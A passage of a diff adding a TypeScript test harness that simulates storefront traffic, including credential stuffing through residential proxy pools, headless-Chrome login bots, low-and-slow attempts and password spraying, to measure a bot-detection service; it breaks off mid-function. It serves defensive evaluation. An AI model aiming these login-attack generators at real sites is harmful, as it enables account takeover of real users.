@@ -1,0 +1,886 @@
+/**
+ * An independent judge of detection (issue 13): a storefront's traffic, legitimate and hostile,
+ * generated from what real browsers, apps and attack tools send, and played against a live
+ * Palisade over gRPC the way Envoy would (ext_authz Check with the full request, then the
+ * access-log entry with the storefront's answer). It was written WITHOUT reading src/lab,
+ * src/detection, examples/lab or the detection docs, from the public documents only (README,
+ * getting-started, policy docs, examples/policy.yaml): the lab is our own generator and the
+ * detection was tuned on it, so it cannot tell whether detection generalises; this one can.
+ * Do not tune it against Palisade's results either, or it stops being independent.
+ *
+ * It drives the server rather than `palisade replay` because an access-log line carries neither
+ * the login body (the username) nor the request's cookies and header set, which a Check sees.
+ *
+ *   npx tsx scripts/independent-traffic.ts [--seeds 1,2] [--only stuffing,scan/proxies] [--sessions 120]
+ *       [--json FILE] [--decisions FILE] [--plan]
+ *
+ * --decisions writes each attack target's decision and each legitimate request with friction
+ * (reasons, rule); with --plan it writes the planned requests and their labels, unplayed.
+ *
+ * Prints one markdown table: per family × knob point and seed, the attack's requests mitigated,
+ * the share of the requests it came for (logins, product reads, refreshes, probes) mitigated,
+ * accounts taken over, and legitimate requests with friction.
+ */
+import { writeFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { parseArgs } from "node:util";
+import { startApp } from "../src/app/start.js";
+import { resolveSettings } from "../src/settings/settings.js";
+import { createLogger } from "../src/telemetry/logger.js";
+import {
+  checkRequest,
+  envoyAccessLogClient,
+  envoyAuthzClient,
+  metadata,
+  type LoggedRequest,
+} from "../test/support/envoy-client.js";
+
+// ---------------------------------------------------------------- randomness
+
+type Random = () => number;
+
+function seeded(seed: number): Random {
+  let state = seed >>> 0;
+  return () => {
+    state = (state + 0x6d2b79f5) >>> 0;
+    let t = state;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const int = (random: Random, low: number, high: number) => low + Math.floor(random() * (high - low + 1));
+const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
+const hex = (random: Random, length: number) => Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join("");
+/** Exponential gap with this mean: arrivals of independent people. */
+const gap = (random: Random, mean: number) => -Math.log(1 - random()) * mean;
+
+function weighted<T>(random: Random, items: readonly (readonly [T, number])[]): T {
+  let roll = random() * items.reduce((sum, [, weight]) => sum + weight, 0);
+  for (const [item, weight] of items) if ((roll -= weight) < 0) return item;
+  return items[items.length - 1]![0];
+}
+
+// ---------------------------------------------------------------- addresses
+
+/** First octets of consumer ISP space; none of the policy's listed ranges or Google's crawl range. */
+const ISP_FIRST_OCTETS = [24, 31, 37, 46, 62, 67, 68, 71, 73, 76, 77, 79, 81, 82, 86, 88, 89, 90, 92, 94, 95, 98, 99, 108, 109, 122, 151, 176, 178, 185, 188, 212, 213, 217];
+
+/** A home connection of a consumer ISP (one /16 of the ISP's ~40 per country-sized pool). */
+function residentialIp(random: Random, isps: number): string {
+  const isp = int(random, 0, isps - 1);
+  const first = ISP_FIRST_OCTETS[isp % ISP_FIRST_OCTETS.length]!;
+  const second = (isp * 37 + int(random, 0, 5)) % 256;
+  return `${first}.${second}.${int(random, 0, 255)}.${int(random, 1, 254)}`;
+}
+
+function residentialIpv6(random: Random): string {
+  return `2a0${int(random, 1, 9)}:${hex(random, 4)}:${hex(random, 4)}:${hex(random, 4)}::${hex(random, 3)}`;
+}
+
+/** Mobile carriers put thousands of phones behind a few public addresses (CGNAT). */
+const CARRIER_CGNAT = [0, 1, 2].map((carrier) => Array.from({ length: 6 }, (_, i) => `${[92, 176, 212][carrier]}.${40 + carrier}.17.${10 + i}`));
+
+// ---------------------------------------------------------------- clients: header sets
+
+type Engine = "chromium" | "firefox" | "safari" | "app-ios" | "app-android" | "curl" | "python" | "script-ua" | "googlebot";
+
+interface Client {
+  engine: Engine;
+  userAgent: string;
+  /** Chromium's client hints: brand list, mobile, platform. */
+  hints?: { brands: string; mobile: boolean; platform: string };
+  language: string;
+}
+
+const LANGUAGES = ["en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "es-ES,es;q=0.9", "en-US,en;q=0.9,es;q=0.8"];
+
+function chromium(random: Random, options: { mobile?: boolean; edge?: boolean; headless?: boolean; version?: number } = {}): Client {
+  const version = options.version ?? pick(random, [129, 130, 131, 131, 131]);
+  const mobile = options.mobile ?? false;
+  const platform = mobile ? "Android" : pick(random, ["Windows", "Windows", "Windows", "macOS", "Linux"]);
+  const os = mobile ? "Linux; Android 10; K" : platform === "Windows" ? "Windows NT 10.0; Win64; x64" : platform === "macOS" ? "Macintosh; Intel Mac OS X 10_15_7" : "X11; Linux x86_64";
+  const product = options.headless ? "HeadlessChrome" : "Chrome";
+  const edge = options.edge ? ` Edg/${version}.0.0.0` : "";
+  const brand = options.edge ? "Microsoft Edge" : "Google Chrome";
+  return {
+    engine: "chromium",
+    userAgent: `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) ${product}/${version}.0.0.0 ${mobile ? "Mobile " : ""}Safari/537.36${edge}`,
+    hints: { brands: `"${options.headless ? "HeadlessChrome" : brand}";v="${version}", "Chromium";v="${version}", "Not_A Brand";v="24"`, mobile, platform: `"${platform}"` },
+    language: pick(random, LANGUAGES),
+  };
+}
+
+function firefox(random: Random): Client {
+  const version = pick(random, [131, 132, 133, 128]);
+  const os = pick(random, ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10.15", "X11; Ubuntu; Linux x86_64"]);
+  return { engine: "firefox", userAgent: `Mozilla/5.0 (${os}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`, language: pick(random, ["en-US,en;q=0.5", "de,en-US;q=0.7,en;q=0.3", "en-GB,en;q=0.5"]) };
+}
+
+function safari(random: Random, iphone: boolean): Client {
+  const version = pick(random, ["17.6", "18.1", "18.1", "17.5"]);
+  const os = iphone ? `iPhone; CPU iPhone OS ${version.replace(".", "_")} like Mac OS X` : "Macintosh; Intel Mac OS X 10_15_7";
+  return {
+    engine: "safari",
+    userAgent: `Mozilla/5.0 (${os}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${version} ${iphone ? "Mobile/15E148 " : ""}Safari/604.1`,
+    language: pick(random, ["en-US,en;q=0.9", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9"]),
+  };
+}
+
+function storefrontApp(random: Random): Client {
+  if (random() < 0.55) {
+    return { engine: "app-ios", userAgent: `Storefront/5.${int(random, 2, 4)}.${int(random, 0, 3)} (iPhone; iOS ${pick(random, ["17.6", "18.1"])}; Scale/3.00) CFNetwork/1568.100.1 Darwin/24.0.0`, language: pick(random, ["en-US,en;q=0.9", "en-GB;q=1.0"]) };
+  }
+  return { engine: "app-android", userAgent: `Storefront/5.${int(random, 2, 4)}.${int(random, 0, 3)} (Android ${pick(random, [13, 14, 15])}; ${pick(random, ["Pixel 7", "SM-S911B", "moto g54"])}) okhttp/4.12.0`, language: "en-US" };
+}
+
+/** Header realism an attack tool is given: its defaults up to a faithful desktop Chrome. */
+type Realism = "curl" | "python" | "script-ua" | "chrome" | "headless";
+
+function toolClient(random: Random, realism: Realism): Client {
+  switch (realism) {
+    case "curl":
+      return { engine: "curl", userAgent: pick(random, ["curl/8.5.0", "curl/7.81.0", "curl/8.9.1"]), language: "" };
+    case "python":
+      return { engine: "python", userAgent: pick(random, ["python-requests/2.31.0", "python-requests/2.32.3", "aiohttp/3.9.5"]), language: "" };
+    case "script-ua":
+      // A script that copied a Chrome user agent string and nothing else.
+      return { engine: "script-ua", userAgent: chromium(random).userAgent, language: "" };
+    case "chrome":
+      return chromium(random);
+    case "headless":
+      return chromium(random, { headless: true });
+  }
+}
+
+type Fetch = "navigate" | "xhr" | "form" | "json-post" | "image" | "script" | "style";
+
+const ACCEPT: Record<"chromium" | "firefox" | "safari", Record<"navigate" | "image" | "script" | "style", string>> = {
+  chromium: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7", image: "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", script: "*/*", style: "text/css,*/*;q=0.1" },
+  firefox: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", image: "image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5", script: "*/*", style: "text/css,*/*;q=0.1" },
+  safari: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", image: "image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5", script: "*/*", style: "text/css,*/*;q=0.1" },
+};
+
+const DESTINATION: Record<Fetch, string> = { navigate: "document", xhr: "empty", form: "empty", "json-post": "empty", image: "image", script: "script", style: "style" };
+
+/** The request headers this client sends for this kind of fetch, in its order. */
+function headersFor(client: Client, fetch: Fetch, cookies: string, referer?: string): Record<string, string> {
+  const h: Record<string, string> = {};
+  const body = fetch === "json-post" || fetch === "form";
+  const contentType = fetch === "form" ? "application/x-www-form-urlencoded" : "application/json";
+  switch (client.engine) {
+    case "curl":
+      h["user-agent"] = client.userAgent;
+      h.accept = "*/*";
+      if (body) h["content-type"] = contentType;
+      return h;
+    case "python":
+      h["user-agent"] = client.userAgent;
+      h["accept-encoding"] = "gzip, deflate";
+      h.accept = "*/*";
+      h.connection = "keep-alive";
+      if (body) h["content-type"] = contentType;
+      if (cookies) h.cookie = cookies;
+      return h;
+    case "script-ua":
+      h["user-agent"] = client.userAgent;
+      h.accept = fetch === "navigate" ? "text/html" : "application/json";
+      h["accept-encoding"] = "gzip";
+      if (body) h["content-type"] = contentType;
+      return h;
+    case "googlebot":
+      h.accept = "text/html,application/xhtml+xml,application/signed-exchange;v=b3,application/xml;q=0.9,*/*;q=0.8";
+      h["user-agent"] = client.userAgent;
+      h["accept-encoding"] = "gzip, deflate, br";
+      return h;
+    case "app-ios":
+    case "app-android":
+      h.accept = "application/json";
+      if (body) h["content-type"] = contentType;
+      h["accept-language"] = client.language;
+      h["user-agent"] = client.userAgent;
+      h["accept-encoding"] = client.engine === "app-ios" ? "gzip, deflate, br" : "gzip";
+      if (cookies) h.cookie = cookies;
+      h["x-app-version"] = client.userAgent.split(" ")[0]!.split("/")[1]!;
+      return h;
+    default: {
+      const engine = client.engine;
+      if (client.hints && fetch !== "image" && fetch !== "style") {
+        h["sec-ch-ua"] = client.hints.brands;
+        h["sec-ch-ua-mobile"] = client.hints.mobile ? "?1" : "?0";
+        h["sec-ch-ua-platform"] = client.hints.platform;
+      }
+      if (fetch === "navigate") h["upgrade-insecure-requests"] = "1";
+      if (body) h["content-type"] = contentType;
+      if (body) h.origin = "https://shop.example";
+      h["user-agent"] = client.userAgent;
+      h.accept = fetch === "xhr" || fetch === "json-post" || fetch === "form" ? "application/json, text/plain, */*" : ACCEPT[engine][fetch];
+      h["sec-fetch-site"] = fetch === "navigate" && !referer ? "none" : "same-origin";
+      h["sec-fetch-mode"] = fetch === "navigate" ? "navigate" : fetch === "image" || fetch === "script" || fetch === "style" ? "no-cors" : "cors";
+      if (fetch === "navigate") h["sec-fetch-user"] = "?1";
+      h["sec-fetch-dest"] = DESTINATION[fetch];
+      if (referer) h.referer = referer;
+      h["accept-encoding"] = engine === "safari" ? "gzip, deflate, br" : "gzip, deflate, br, zstd";
+      h["accept-language"] = client.language;
+      if (cookies) h.cookie = cookies;
+      if (engine === "firefox" && fetch === "navigate") h.priority = "u=0, i";
+      return h;
+    }
+  }
+}
+
+// ---------------------------------------------------------------- the storefront
+
+interface Account {
+  username: string;
+  password: string;
+}
+
+interface Shop {
+  accounts: Account[];
+  /** Product ids that exist, by popularity (Zipf-like: the first ones sell). */
+  products: number[];
+  exists: Set<number>;
+  firstId: number;
+  lastId: number;
+}
+
+const SPRAY_PASSWORDS = ["Winter2025!", "Password123", "Welcome1!", "Summer2026!"];
+
+function openShop(random: Random): Shop {
+  const accounts = Array.from({ length: 4000 }, (_, i) => ({
+    username: `${pick(random, ["anna", "ben", "chen", "dara", "eli", "fatima", "gus", "hana", "ivan", "jo", "kemal", "lena", "mo", "nia", "omar", "pia"])}.${pick(random, ["smith", "garcia", "muller", "rossi", "kim", "nguyen", "silva", "novak"])}${i}@${pick(random, ["gmail.com", "outlook.com", "yahoo.com", "web.de", "icloud.com"])}`,
+    password: random() < 0.008 ? pick(random, SPRAY_PASSWORDS) : `${hex(random, 6)}-${hex(random, 6)}`,
+  }));
+  const firstId = 10_000;
+  const lastId = 17_999;
+  const products: number[] = [];
+  for (let id = firstId; id <= lastId; id++) if (random() < 0.88) products.push(id);
+  for (let i = products.length - 1; i > 0; i--) {
+    const j = Math.floor(random() * (i + 1));
+    [products[i], products[j]] = [products[j]!, products[i]!];
+  }
+  return { accounts, products, exists: new Set(products), firstId, lastId };
+}
+
+function popularProduct(random: Random, shop: Shop): number {
+  return shop.products[Math.min(shop.products.length - 1, Math.floor(Math.pow(random(), 2.2) * shop.products.length))]!;
+}
+
+// ---------------------------------------------------------------- planned requests
+
+/** "legit", "history" (before the measured hour, not scored) or the attack family. */
+type Label = string;
+
+interface Planned {
+  /** ms from the start of the measured hour (negative: the account history before it). */
+  t: number;
+  ip: string;
+  method: string;
+  path: string;
+  headers: Record<string, string>;
+  body?: string;
+  label: Label;
+  /** A request the attack came for: a login, a product read, a refresh, a probe. */
+  target: boolean;
+  /** The storefront's answer when the request reaches it. */
+  status: number;
+  responseHeaders?: Record<string, string>;
+  /** A right password (or a live refresh token) an attacker holds: allowed without step-up is a takeover. */
+  stolen?: string;
+  /** A right password: under step-up a person passes the MFA prompt, an attacker does not. */
+  rightPassword?: boolean;
+}
+
+const MINUTE = 60_000;
+const HOUR = 60 * MINUTE;
+
+/** One browser or app: its address, header set and cookie jar, and the requests it makes. */
+class Visitor {
+  readonly jar = new Map<string, string>();
+  constructor(
+    readonly random: Random,
+    readonly out: Planned[],
+    readonly label: Label,
+    public ip: string,
+    readonly client: Client,
+    public t: number,
+  ) {}
+
+  cookies(): string {
+    return [...this.jar].map(([name, value]) => `${name}=${value}`).join("; ");
+  }
+
+  send(fetch: Fetch, method: string, path: string, fields: Partial<Planned> & { referer?: string } = {}): Planned {
+    const { referer, ...rest } = fields;
+    const request: Planned = { t: this.t, ip: this.ip, method, path, headers: headersFor(this.client, fetch, this.cookies(), referer), label: this.label, target: false, status: 200, ...rest };
+    this.out.push(request);
+    return request;
+  }
+
+  wait(ms: number): this {
+    this.t += ms;
+    return this;
+  }
+
+  /** An HTML page: the storefront sets its session cookie and, once, its long-lived device cookie. */
+  page(path: string, referer?: string): void {
+    const request = this.send("navigate", "GET", path, { referer, responseHeaders: { "content-type": "text/html" } });
+    const setCookies: string[] = [];
+    if (!this.jar.has("sid")) {
+      this.jar.set("sid", hex(this.random, 24));
+      setCookies.push(`sid=${this.jar.get("sid")}; Path=/; Secure; HttpOnly`);
+    }
+    if (!this.jar.has("did")) {
+      this.jar.set("did", hex(this.random, 16));
+      setCookies.push(`did=${this.jar.get("did")}; Path=/; Max-Age=31536000; Secure; HttpOnly`);
+    }
+    if (setCookies.length) request.responseHeaders!["set-cookie"] = setCookies.join(", ");
+  }
+
+  /** The shell's scripts and styles: fetched on the first page, cached after. */
+  shell(): void {
+    for (const asset of ["/static/app.7f3a9c.js", "/static/vendor.1b22e0.js", "/static/app.c41d8e.css", "/static/fonts/inter-var.woff2", "/static/img/logo.svg"]) {
+      this.wait(int(this.random, 20, 180)).send(asset.endsWith(".js") ? "script" : asset.endsWith(".css") ? "style" : "image", "GET", asset, { referer: "https://shop.example/" });
+    }
+  }
+
+  /** A product page as a person's browser loads it: the page, its data, its pictures. */
+  product(shop: Shop, id: number, options: { pictures?: boolean; navigate?: boolean } = {}): Planned {
+    const exists = shop.exists.has(id);
+    if (options.navigate !== false) this.page(`/p/${id}`, "https://shop.example/");
+    const read = this.wait(int(this.random, 30, 200)).send("xhr", "GET", `/api/v1/products/${id}`, { status: exists ? 200 : 404, referer: `https://shop.example/p/${id}` });
+    if (exists && options.pictures !== false) {
+      for (let n = 1; n <= int(this.random, 2, 4); n++) this.wait(int(this.random, 40, 300)).send("image", "GET", `/static/img/products/${id}-${n}.webp`, { referer: `https://shop.example/p/${id}` });
+    }
+    return read;
+  }
+
+  search(shop: Shop, query: string, page = 1): void {
+    this.send("xhr", "GET", `/api/v1/search?q=${encodeURIComponent(query)}${page > 1 ? `&page=${page}` : ""}`, { referer: "https://shop.example/search" });
+    for (let n = 0; n < 6; n++) this.wait(int(this.random, 10, 80)).send("image", "GET", `/static/img/products/${popularProduct(this.random, shop)}-thumb.webp`, { referer: "https://shop.example/search" });
+  }
+
+  login(username: string, password: string, fields: Partial<Planned>): Planned {
+    const body = JSON.stringify({ username, password, remember: true });
+    return this.send("json-post", "POST", "/api/v1/login", { body, referer: "https://shop.example/login", ...fields });
+  }
+}
+
+/** The storefront's answer to a login with these credentials. */
+function loginAnswer(shop: Shop, byName: Map<string, Account>, username: string, password: string): Partial<Planned> {
+  const account = byName.get(username);
+  if (!account) return { status: 401, responseHeaders: { "x-auth-result": "unknown-user" } };
+  if (account.password !== password) return { status: 401, responseHeaders: { "x-auth-result": "bad-password" } };
+  return { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } };
+}
+
+// ---------------------------------------------------------------- legitimate traffic
+
+const QUERIES = ["running shoes", "rain jacket", "usb c cable", "coffee grinder", "yoga mat", "desk lamp", "headphones", "backpack", "wool socks", "phone case", "kettle", "air fryer", "garden hose", "lego", "sunglasses"];
+
+interface Person {
+  account: Account;
+  client: Client;
+  homeIp: string;
+  /** The device cookie of the browser or app they use, known to the site from earlier visits. */
+  deviceId: string;
+  /** The app's refresh token, for app users. */
+  refreshToken?: string;
+  /** When the app last refreshed: its access token lives five minutes, so a relaunch sooner reuses it. */
+  lastRefresh?: number;
+  mobile: boolean;
+}
+
+function makePerson(random: Random, account: Account): Person {
+  const client = weighted<() => Client>(random, [
+    [() => chromium(random), 33],
+    [() => chromium(random, { edge: true }), 7],
+    [() => firefox(random), 7],
+    [() => safari(random, false), 6],
+    [() => safari(random, true), 18],
+    [() => chromium(random, { mobile: true }), 14],
+    [() => storefrontApp(random), 15],
+  ])();
+  const mobile = client.engine.startsWith("app") || client.userAgent.includes("Mobile");
+  const homeIp = random() < 0.2 ? residentialIpv6(random) : residentialIp(random, 120);
+  return { account, client, homeIp, deviceId: hex(random, 16), refreshToken: client.engine.startsWith("app") ? hex(random, 32) : undefined, mobile };
+}
+
+/** Where a person connects from this time: home, or a carrier's shared address on the move. */
+function networkOf(random: Random, person: Person): string {
+  if (person.mobile && random() < 0.45) return pick(random, pick(random, CARRIER_CGNAT));
+  return person.homeIp;
+}
+
+/** What the site already knew before the hour: each returning person's earlier sign-in on their device. */
+function history(random: Random, out: Planned[], person: Person): void {
+  const visitor = new Visitor(random, out, "history", person.homeIp, person.client, -int(random, 1, 20) * 24 * HOUR - int(random, 0, 20) * HOUR);
+  visitor.jar.set("did", person.deviceId);
+  if (person.refreshToken) {
+    appLogin(visitor, person);
+    return;
+  }
+  visitor.page("/", undefined);
+  visitor.shell();
+  visitor.wait(int(random, 5_000, 40_000)).page("/login", "https://shop.example/");
+  visitor.wait(int(random, 3_000, 15_000)).login(person.account.username, person.account.password, { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } });
+}
+
+function appLogin(visitor: Visitor, person: Person): void {
+  const body = new URLSearchParams({ grant_type: "password", username: person.account.username, password: person.account.password, client_id: "storefront-app" }).toString();
+  visitor.send("form", "POST", "/oauth/token", { body, status: 200, rightPassword: true });
+  for (let n = 0; n < 2; n++) refresh(visitor.wait(5 * MINUTE - int(visitor.random, 0, 40_000)), person, { status: 200 });
+}
+
+function refresh(visitor: Visitor, person: Person, fields: Partial<Planned> = {}): Planned {
+  const body = new URLSearchParams({ grant_type: "refresh_token", refresh_token: person.refreshToken!, client_id: "storefront-app" }).toString();
+  return visitor.send("form", "POST", "/oauth/token", { body, ...fields });
+}
+
+/** A browsing session of one person: landing, searches, products, sometimes a sign-in and its typos. */
+function browsingSession(random: Random, shop: Shop, out: Planned[], person: Person, start: number, returning: boolean, byName: Map<string, Account>): number {
+  const visitor = new Visitor(random, out, "legit", networkOf(random, person), person.client, start);
+  if (returning) visitor.jar.set("did", person.deviceId);
+  const think = () => visitor.wait(int(random, 4_000, 45_000));
+  if (person.refreshToken) {
+    // The app: a refresh on launch, then every five minutes while it is open; the catalogue over the API.
+    const minutes = int(random, 2, 25);
+    const end = visitor.t + minutes * MINUTE;
+    const refreshAfter = () => 5 * MINUTE - int(random, 0, 50_000);
+    let nextRefresh = person.lastRefresh === undefined ? visitor.t : person.lastRefresh + refreshAfter();
+    visitor.jar.set("did", person.deviceId);
+    while (visitor.t < end) {
+      if (visitor.t >= nextRefresh) {
+        refresh(visitor, person, { status: 200 });
+        person.lastRefresh = visitor.t;
+        nextRefresh = visitor.t + refreshAfter();
+        // Walking out of the house: wifi to cellular mid-session.
+        if (random() < 0.1) visitor.ip = networkOf(random, person);
+      }
+      visitor.wait(int(random, 200, 900));
+      if (random() < 0.3) visitor.send("xhr", "GET", `/api/v1/search?q=${encodeURIComponent(pick(random, QUERIES))}`);
+      else {
+        const id = popularProduct(random, shop);
+        visitor.send("xhr", "GET", `/api/v1/products/${id}`);
+        for (let n = 1; n <= 2; n++) visitor.wait(int(random, 30, 150)).send("image", "GET", `/static/img/products/${id}-${n}.webp`);
+      }
+      think();
+    }
+    return visitor.t;
+  }
+  visitor.page("/", random() < 0.5 ? "https://www.google.com/" : undefined);
+  visitor.shell();
+  const wantsLogin = returning ? random() < 0.45 : random() < 0.08;
+  const pages = int(random, 1, 12);
+  for (let n = 0; n < pages; n++) {
+    think();
+    if (random() < 0.3) {
+      const query = pick(random, QUERIES) + (random() < 0.05 ? "s" : "");
+      visitor.search(shop, query);
+      if (random() < 0.25) visitor.wait(int(random, 3_000, 15_000)).search(shop, query, 2);
+    } else {
+      // A typo'd or stale link now and then: a product that is gone.
+      const id = random() < 0.03 ? int(random, shop.firstId, shop.lastId) : popularProduct(random, shop);
+      visitor.product(shop, id);
+    }
+    if (wantsLogin && n === Math.floor(pages / 2)) {
+      think().page("/login", "https://shop.example/");
+      const passwordManager = random() < 0.55;
+      const style = passwordManager ? "right" : weighted(random, [["right", 80], ["typo", 14], ["forgot", 4], ["old", 2]] as const);
+      const tries = style === "typo" ? [person.account.password.slice(0, -1) + "x", person.account.password] : style === "forgot" ? ["password", `${person.account.password}1`, "x"] : style === "old" ? [`${hex(random, 6)}-${hex(random, 6)}`, person.account.password] : [person.account.password];
+      for (const password of tries) {
+        visitor.wait(passwordManager ? int(random, 800, 3_000) : int(random, 5_000, 20_000));
+        visitor.login(person.account.username, password, loginAnswer(shop, byName, person.account.username, password));
+      }
+    }
+  }
+  return visitor.t;
+}
+
+/** Twelve colleagues behind one office NAT, signing in as they arrive. */
+function office(random: Random, shop: Shop, out: Planned[], people: Person[], byName: Map<string, Account>): void {
+  const ip = `81.${int(random, 100, 120)}.44.9`;
+  const standard = chromium(random, { version: 131 });
+  for (const person of people) {
+    const colleague: Person = { ...person, client: { ...standard, language: "en-US,en;q=0.9" }, homeIp: ip, mobile: false, refreshToken: undefined };
+    browsingSession(random, shop, out, colleague, int(random, 0, 20) * MINUTE + int(random, 0, 59_000), true, byName);
+  }
+}
+
+function googlebot(random: Random, shop: Shop, out: Planned[]): void {
+  const client: Client = { engine: "googlebot", userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", language: "" };
+  const visitor = new Visitor(random, out, "legit", `66.249.66.${int(random, 1, 200)}`, client, int(random, 0, 5_000));
+  while (visitor.t < HOUR) {
+    visitor.send("navigate", "GET", `/p/${pick(random, shop.products)}`);
+    visitor.wait(gap(random, 9_000));
+  }
+}
+
+interface Population {
+  people: Person[];
+  /** People the site saw sign in before the hour (their devices and tokens are known). */
+  returning: Person[];
+  byName: Map<string, Account>;
+}
+
+function legitimate(random: Random, shop: Shop, out: Planned[], sessions: number): Population {
+  const byName = new Map(shop.accounts.map((account) => [account.username, account]));
+  const people = shop.accounts.slice(0, Math.ceil(sessions * 1.2)).map((account) => makePerson(random, account));
+  const returning = people.filter(() => random() < 0.7);
+  for (const person of returning) history(random, out, person);
+  // One device is in one place at a time: a person's next session starts after the last one ended.
+  const busyUntil = new Map<Person, number>();
+  let t = 0;
+  for (let n = 0; n < sessions; n++) {
+    t += gap(random, HOUR / sessions);
+    if (t >= HOUR) break;
+    let person = pick(random, people);
+    while ((busyUntil.get(person) ?? -Infinity) + 2 * MINUTE > t) person = pick(random, people);
+    busyUntil.set(person, browsingSession(random, shop, out, person, Math.floor(t), returning.includes(person), byName));
+  }
+  office(random, shop, out, returning.filter((p) => !p.refreshToken).slice(0, 12), byName);
+  googlebot(random, shop, out);
+  return { people, returning, byName };
+}
+
+// ---------------------------------------------------------------- attacks
+
+interface Knobs {
+  /** Attack requests per minute, whole window. */
+  rate: number;
+  /** Distinct addresses (a residential proxy pool of that size). */
+  addresses: number;
+  realism: Realism;
+  /** Logins per bot instance (headless), victims (token replay), ... */
+  per?: number;
+  /** Family variant: how the tool behaves. */
+  variant?: string;
+}
+
+interface Point {
+  family: string;
+  name: string;
+  knobs: Knobs;
+  describe: string;
+}
+
+type AttackPlan = (random: Random, shop: Shop, out: Planned[], population: Population, knobs: Knobs) => void;
+
+/** A pool of proxies spread over many /16s of many ISPs, each address chosen at random per use. */
+function proxyPool(random: Random, size: number): string[] {
+  return Array.from({ length: size }, () => (random() < 0.1 ? residentialIpv6(random) : residentialIp(random, 400)));
+}
+
+/** A combo list from other sites' breaches: most accounts unknown here, some reused passwords. */
+function comboList(random: Random, shop: Shop, length: number): { username: string; password: string }[] {
+  return Array.from({ length }, () => {
+    const roll = random();
+    if (roll < 0.02) return { ...pick(random, shop.accounts) };
+    if (roll < 0.42) return { username: pick(random, shop.accounts).username, password: `${hex(random, 4)}${pick(random, ["!", "123", "2019", ""])}` };
+    return { username: `${pick(random, ["mark", "sue", "li", "raj", "zoe", "tom"])}${int(random, 1, 99999)}@${pick(random, ["gmail.com", "hotmail.com", "mail.ru", "yahoo.com"])}`, password: hex(random, 8) };
+  });
+}
+
+function stolenIf(answer: Partial<Planned>, username: string): Partial<Planned> {
+  return answer.rightPassword ? { ...answer, stolen: username } : answer;
+}
+
+/** Credential stuffing through residential proxies: one POST per try, no page, no cookies. */
+const stuffing: AttackPlan = (random, shop, out, { byName }, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const client = toolClient(random, knobs.realism);
+  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.1));
+  let t = int(random, 0, 2_000);
+  for (const entry of list) {
+    if (t >= HOUR) break;
+    const visitor = new Visitor(random, out, "stuffing", pick(random, pool), client, t);
+    visitor.login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
+    t += gap(random, MINUTE / knobs.rate);
+  }
+};
+
+/** Headless Chrome per proxy: loads the site (cookies kept), maybe a product, then tries `per` accounts. */
+const headless: AttackPlan = (random, shop, out, { byName }, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.1));
+  const instances = Math.ceil(list.length / (knobs.per ?? 1));
+  const spacing = HOUR / instances;
+  let next = 0;
+  for (let instance = 0; instance < instances && next < list.length; instance++) {
+    const visitor = new Visitor(random, out, "headless", pick(random, pool), toolClient(random, knobs.realism), Math.floor(instance * spacing + random() * 1_000));
+    visitor.page("/");
+    visitor.shell();
+    if (knobs.variant === "browses") visitor.wait(int(random, 1_500, 4_000)).product(shop, popularProduct(random, shop));
+    visitor.wait(int(random, 1_000, 3_000)).page("/login", "https://shop.example/");
+    for (let n = 0; n < (knobs.per ?? 1) && next < list.length; n++) {
+      const entry = list[next++]!;
+      visitor.wait(int(random, 1_500, Math.max(2_000, (spacing / (knobs.per ?? 1)) * 0.8)));
+      visitor.login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
+    }
+  }
+};
+
+/** Low and slow: a small pool, each address trying an account every few tens of minutes. */
+const lowAndSlow: AttackPlan = (random, shop, out, { byName }, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.2));
+  const clients = new Map(pool.map((ip) => [ip, toolClient(random, knobs.realism)]));
+  let t = int(random, 0, 30_000);
+  for (const entry of list) {
+    if (t >= HOUR) break;
+    const ip = pool[list.indexOf(entry) % pool.length]!;
+    const visitor = new Visitor(random, out, "low-and-slow", ip, clients.get(ip)!, t);
+    if (knobs.variant === "page-first") visitor.page("/login");
+    visitor.wait(int(random, 2_000, 6_000)).login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
+    t += gap(random, MINUTE / knobs.rate);
+  }
+};
+
+/** Password spraying: a few common passwords across the site's real usernames (harvested earlier). */
+const spray: AttackPlan = (random, shop, out, { byName }, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const client = toolClient(random, knobs.realism);
+  const targets = [...shop.accounts].sort(() => random() - 0.5);
+  let t = int(random, 0, 2_000);
+  let n = 0;
+  for (const password of SPRAY_PASSWORDS) {
